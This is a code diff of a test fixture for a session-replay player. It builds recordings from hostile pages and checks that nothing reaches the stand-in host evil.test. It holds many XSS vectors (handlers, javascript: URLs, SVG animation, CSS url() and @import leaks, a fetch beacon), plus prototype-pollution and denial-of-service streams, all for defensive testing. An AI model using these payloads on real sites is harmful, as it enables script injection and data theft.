@@ -1,184 +1,106 @@
-// What a hostile console can put into a recording. Every one tries to reach SINK when it runs, loads or leads anywhere.
-import { addNode, type Event, element, meta, page, step, text, whole } from './events.ts';
+// Recordings out of hostile pages, with all that can be done to them later, and streams that are no recordings.
+import { addNode, type Event, element, meta, page, setText, step, text, whole } from './events.ts';
+import { css, RUN, url } from './hostilePages.ts';
 
-export const SINK = 'http://evil.test';
-const RUN = `fetch('${SINK}/ran');new Image().src='${SINK}/ran'`;
-let n = 0;
-const url = (name: string): string => {
-  n += 1;
-  return `${SINK}/${name}?${n}`;
-};
-const css = (content: string) => element('style', {}, [text(content, { isStyle: true })]);
-
-/** name -> nodes for head and body */
-export const HOSTILE: { readonly [name: string]: () => { head?: object[]; body?: object[] } } = {
-  scripts: () => ({
-    head: [element('script', {}, [text(RUN)]), element('script', { src: url('script'), type: 'module' })],
-    body: [element('script', { type: 'speculationrules' }, [text(`{"prefetch":[{"urls":["${url('rules')}"]}]}`)])],
-  }),
-  handlers: () => ({
-    body: [
-      element('img', { src: 'x', onerror: RUN }),
-      element('svg', { onload: RUN }, [], { isSVG: true }),
-      element('details', { open: '', ontoggle: RUN }, [element('summary', {}, [text('x')])]),
-      element('input', { autofocus: '', onfocus: RUN }),
-      element('div', { style: 'animation:x 1s', onanimationstart: RUN, ONCLICK: RUN }),
-      element('body', { onload: RUN, onpageshow: RUN }),
-    ],
-  }),
-  'script addresses': () => ({
-    body: [
-      element('a', { href: `javascript:${RUN}` }, [text('here')]),
-      element('iframe', { src: `javascript:${RUN}` }),
-      element('form', { action: `javascript:${RUN}` }, [element('button', { formaction: `javascript:${RUN}` })]),
-      element('object', { data: `javascript:${RUN}` }),
-      element('a', { href: `data:text/html,<script>${RUN}</script>` }, [text('here')]),
-    ],
-  }),
-  svg: () => ({
-    body: [
-      element(
-        'svg',
-        { width: '100', height: '100' },
-        [
-          element('script', {}, [text(RUN)], { isSVG: true }),
-          element('foreignObject', {}, [element('iframe', { srcdoc: `<script>${RUN}</script>` })], { isSVG: true }),
-          element('use', { 'xlink:href': url('use#x'), href: url('use#y') }, [], { isSVG: true }),
-          element('image', { href: url('svgimage'), 'xlink:href': url('svgimage') }, [], { isSVG: true }),
-          element('feImage', { href: url('feimage') }, [], { isSVG: true }),
-          element(
-            'a',
-            { href: url('svga') },
-            [element('animate', { attributeName: 'href', to: `javascript:${RUN}`, begin: '0s' }, [], { isSVG: true })],
-            { isSVG: true },
-          ),
-          element('set', { attributeName: 'onload', to: RUN }, [], { isSVG: true }),
-        ],
-        { isSVG: true },
-      ),
-      element('img', {
-        src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${url('insvg')}"/></svg>`,
-      }),
-    ],
-  }),
-  'head of the page': () => ({
-    head: [
-      element('meta', { 'http-equiv': 'refresh', content: `0;url=${url('refresh')}` }),
-      element('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
-      element('base', { href: `${SINK}/`, target: '_top' }),
+/** Elements that something is done to later. */
+const CHANGED = ['div', 'img', 'a', 'iframe', 'button', 'form', 'input', 'video', 'style', 'object', 'base', 'meta'];
+const changes = () => ({
+  ...Object.fromEntries(
+    [
       ...[
-        'preload',
-        'prefetch',
-        'preconnect',
-        'dns-prefetch',
-        'modulepreload',
-        'prerender',
-        'stylesheet',
-        'icon',
+        'src',
+        'href',
+        'xlink:href',
+        'srcset',
+        'poster',
+        'data',
+        'background',
+        'action',
+        'formaction',
+        'ping',
+        'cite',
+      ],
+      ...[
+        'rr_dataURL',
+        'rr_src',
+        'imagesrcset',
+        'lowsrc',
         'manifest',
-        'import',
-      ].map((rel) => element('link', { rel, href: url(rel), as: 'script', crossorigin: '' })),
-      element('link', {
-        rel: 'stylesheet',
-        href: url('captured'),
-        _cssText: `@import url(${url('captured-import')});p{color:red}`,
-      }),
-    ],
-  }),
-  frames: () => ({
-    body: [
-      element('iframe', { src: url('iframe') }),
-      element('iframe', { srcdoc: `<script>${RUN}</script><img src=${url('srcdoc')}>`, sandbox: 'allow-scripts' }),
-      element('iframe', { rr_src: url('rrsrc') }),
-      ...['object', 'embed', 'applet', 'portal', 'fencedframe', 'frame', 'webview'].map((tag) =>
-        element(tag, { src: url(tag), data: url(tag), code: url(tag) }),
-      ),
-    ],
-  }),
-  styles: () => ({
-    head: [
-      css(`@import url(${url('import')}); @import "${url('import')}";`),
-      css(`@font-face{font-family:x;src:url(${url('font')})} body{font-family:x;background:url(${url('background')})}`),
-      css(`input[value^="s"]{background:url(${url('attribute')})} a:visited{background:url(${url('visited')})}`),
-      css(
-        `*::before{content:url(${url('content')})} p{cursor:url(${url('cursor')}),auto;mask:url(${url('mask')})} ul{list-style:url(${url('list')})}`,
-      ),
-      css(
-        `@namespace url(${url('namespace')}); div{background:image-set("${url('set')}" 1x);behavior:url(${url('behavior')})}`,
-      ),
-    ],
-    body: [
-      element('input', { value: 'secret', type: 'text' }),
-      element('p', { style: `background:url(${url('inline')})` }, [text('x')]),
-      element('ul', {}, [element('li', {}, [text('x')])]),
-    ],
-  }),
-  media: () => ({
-    body: [
-      element('img', { src: url('img'), srcset: `${url('srcset')} 2x`, loading: 'eager' }),
-      element('picture', {}, [element('source', { srcset: url('picture') }), element('img', { src: url('fallback') })]),
-      element('video', { src: url('video'), poster: url('poster'), autoplay: '', preload: 'auto' }, [
-        element('track', { src: url('track'), default: '' }),
-      ]),
-      element('audio', { src: url('audio'), autoplay: '' }, [element('source', { src: url('source') })]),
-      element('input', { type: 'image', src: url('inputimage') }),
-      element('table', { background: url('tablebackground') }),
-      element('canvas', { rr_dataURL: url('canvas') }),
-      element('img', { rr_dataURL: url('rrimg'), rr_src: url('rrimg') }),
-    ],
-  }),
-  forms: () => ({
-    body: [
-      element('form', { action: url('form'), method: 'post', target: '_top' }, [
-        element('input', { name: 'a', value: 'b', type: 'submit', formaction: url('formaction') }),
-      ]),
-      element('a', { href: url('link'), ping: url('ping'), target: '_top', download: 'x' }, [text('link')]),
-    ],
-  }),
-};
+        'codebase',
+        'icon',
+        'longdesc',
+        'attributionsrc',
+      ],
+    ].map((name) => [name, url('changed')]),
+  ),
+  ...Object.fromEntries(['onclick', 'onload', 'onerror', 'onfocus', 'ONERROR', 'srcdoc'].map((name) => [name, RUN])),
+  ...{ 'http-equiv': 'refresh', content: `0;url=${url('changedrefresh')}`, autofocus: '', target: '_top' },
+  style: { background: `url(${url('changedstyle')})`, 'mask-image': [`url(${url('changedmask')})`, 'important'] },
+});
 
+/** Shows PLAYED when all of it was played. */
+export const PLAYED = 'All of it was played';
 export const recordingOf = (at: number, { head = [], body = [] }: { head?: object[]; body?: object[] }): Event[] => {
   const anchor = element('div', { id: 'late' }, [text('Something here')]);
+  const changed = CHANGED.map((tag) => element(tag, {}));
+  const sheet = element('style', {}, [text('p{color:black}', { isStyle: true })]);
+  const inner = element('iframe', {});
+  const said = text('A page of a console');
   const node = page(
-    [element('p', {}, [text('A page of a console')]), anchor, ...(body as (typeof anchor)[])],
-    head as (typeof anchor)[],
+    [element('p', {}, [said]), anchor, inner, ...changed, ...(body as (typeof anchor)[])],
+    [sheet, ...(head as (typeof anchor)[])],
   );
-  // The same once more as later steps of the page, and as changed attributes.
+  // The same once more as later steps of the page, in a frame of its own, and as changed attributes.
   const again = [...(body as (typeof anchor)[]), ...(head as (typeof anchor)[])].map((one, index) =>
     addNode(at + 200 + index, Number(anchor.id), one),
   );
-  const attributes = {
-    src: url('changed'),
-    href: url('changed'),
-    srcset: url('changed'),
-    onclick: RUN,
-    onload: RUN,
-    style: { background: `url(${url('changedstyle')})` },
-    srcdoc: RUN,
-  };
+  const framed = page(body as (typeof anchor)[], head as (typeof anchor)[]);
+  const id = Number(sheet.id);
+  const rule = (name: string) => `p{background:url(${url(name)})}`;
   return [
     meta(at),
     whole(at + 1, node),
     ...again,
-    step(at + 400, { source: 0, texts: [], adds: [], removes: [], attributes: [{ id: anchor.id, attributes }] }),
-    step(at + 401, { source: 8, id: anchor.id, adds: [{ rule: `p{background:url(${url('rule')})}`, index: 0 }] }),
-    step(at + 402, {
-      source: 15,
-      id: 1,
-      styleIds: [1],
-      styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${url('adopted')})}`, index: 0 }] }],
+    step(at + 300, {
+      ...{ source: 0, texts: [], attributes: [], removes: [], isAttachIframe: true },
+      adds: [{ parentId: inner.id, nextId: null, node: { ...framed, id: 900_000 } }],
     }),
-    step(at + 403, {
+    step(at + 400, {
+      ...{ source: 0, adds: [], removes: [], texts: [{ id: 1, value: RUN }] },
+      attributes: [anchor, ...changed].map(({ id }) => ({ id, attributes: changes() })),
+    }),
+    step(at + 401, { source: 8, id, adds: [{ rule: rule('rule'), index: 0 }] }),
+    step(at + 402, { source: 8, id, adds: [{ rule: `@import url(${url('ruleimport')});`, index: 0 }] }),
+    step(at + 403, { source: 13, id, index: [0], set: { property: 'background', value: `url(${url('declared')})` } }),
+    step(at + 404, {
+      ...{ source: 15, id: 1, styleIds: [1] },
+      styles: [
+        {
+          styleId: 1,
+          rules: [rule('adopted'), `@import url(${url('adoptedimport')});`].map((rule, index) => ({ rule, index })),
+        },
+      ],
+    }),
+    step(at + 405, { source: 8, styleId: 1, replace: `@import url(${url('replace')}); ${rule('replaced')}` }),
+    step(at + 406, {
+      source: 8,
+      styleId: 1,
+      replaceSync: `@import url(${url('replacesync')}); ${rule('replacedsync')}`,
+    }),
+    step(at + 407, {
       source: 9,
       id: anchor.id,
       type: 0,
       commands: [{ property: 'drawImage', args: [{ rr_type: 'ImageElement', src: url('canvascommand') }] }],
     }),
-    step(at + 404, { source: 10, family: 'x', fontSource: `url(${url('fontevent')})`, buffer: false }),
-    step(at + 405, { source: 16, id: anchor.id, define: { name: 'x-evil' } }),
-    step(at + 406, { source: 7, id: anchor.id, type: 0, currentTime: 1 }),
-    { type: 6, data: { plugin: 'rrweb/console@1', payload: {} }, timestamp: at + 407 },
-    step(at + 900, { source: 2, type: 2, id: anchor.id, x: 5, y: 5 }),
+    step(at + 408, { source: 10, family: 'x', fontSource: `url(${url('fontevent')})`, buffer: false }),
+    step(at + 409, { source: 16, id: anchor.id, define: { name: 'x-evil' } }),
+    step(at + 410, { source: 7, id: anchor.id, type: 0, currentTime: 1 }),
+    step(at + 411, { source: 5, id: changed[6]?.id, text: RUN, isChecked: true }),
+    { type: 6, data: { plugin: 'rrweb/console@1', payload: {} }, timestamp: at + 412 },
+    step(at + 500, { source: 2, type: 2, id: anchor.id, x: 5, y: 5 }),
+    step(at + 501, { source: 2, type: 5, id: changed[6]?.id }),
+    setText(at + 600, Number(said.id), PLAYED),
   ];
 };
 
@@ -227,6 +149,31 @@ export const BROKEN: { readonly [name: string]: (at: number) => Event[] } = {
       { type: 4, data: { width: 1e12, height: -4 }, timestamp: at + 5 },
       { type: 3, data: { source: 3, id: {}, x: 'y' }, timestamp: at + 6 },
     ]),
+  'pointers at no time': (at) => [
+    meta(at),
+    whole(at + 1, page([text('x')])),
+    ...broken(
+      [null, 'abc', [null], [{ timeOffset: 'x' }], [{ timeOffset: 1e300 }], [{ timeOffset: -1e300, id: 1 }], {}, 7].map(
+        (positions, n) => ({ type: 3, timestamp: at + 10 + n, data: { source: n % 2 === 0 ? 1 : 12, positions } }),
+      ),
+    ),
+  ],
+  'a million steps at once': (at) => {
+    const inner = text('x');
+    const texts = Array.from({ length: 1_000_001 }, () => ({ id: inner.id, value: 'y' }));
+    return [
+      meta(at),
+      whole(at + 1, page([inner])),
+      step(at + 2, { source: 0, texts, attributes: [], removes: [], adds: [] }),
+    ];
+  },
+  'texts without end': (at) => {
+    const long = 'x'.repeat(4_500_000);
+    return [
+      meta(at),
+      whole(at + 1, page([text(long), element('i', { title: long, class: 'a' })], [css('{'.repeat(300_000))])),
+    ];
+  },
   'a node in itself': (at) => {
     const inner = element('div', {}, []);
     return [
@@ -235,6 +182,29 @@ export const BROKEN: { readonly [name: string]: (at: number) => Event[] } = {
       addNode(at + 2, Number(inner.id), { ...inner, childNodes: [inner] }),
     ];
   },
+};
+
+/** Lies about time, and prototypes as members; says AFTER at 600 ms. */
+export const AFTER = 'What came after the lies';
+export const lies = (at: number): Event[] => {
+  const said = text('before');
+  const prototype = (more: string): Event['data'] =>
+    JSON.parse(`{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},${more}}`);
+  return [
+    meta(at),
+    whole(at + 1, page([element('p', {}, [said])])),
+    ...[1e300, -1e300, 2 ** 53, 8e15, -1].map((timestamp) => step(timestamp, { source: 3, id: 1, x: 0, y: 0 })),
+    { type: 3, timestamp: at + 100, data: prototype('"source":5,"id":4,"text":"x"') },
+    {
+      ...{ type: 3, timestamp: at + 101 },
+      data: prototype(
+        '"source":0,"attributes":[{"id":3,"attributes":{"__proto__":{"polluted":1},"style":{"__proto__":{"polluted":1}}}}]',
+      ),
+    },
+    { type: 2, timestamp: at + 102, data: prototype('"node":{"__proto__":{"type":0,"id":1}}') },
+    setText(at + 600, Number(said.id), AFTER),
+    step(at + 900, { source: 3, id: 1, x: 0, y: 0 }),
+  ];
 };
 
 export const deep = (at: number, depth: number): Event[] => {
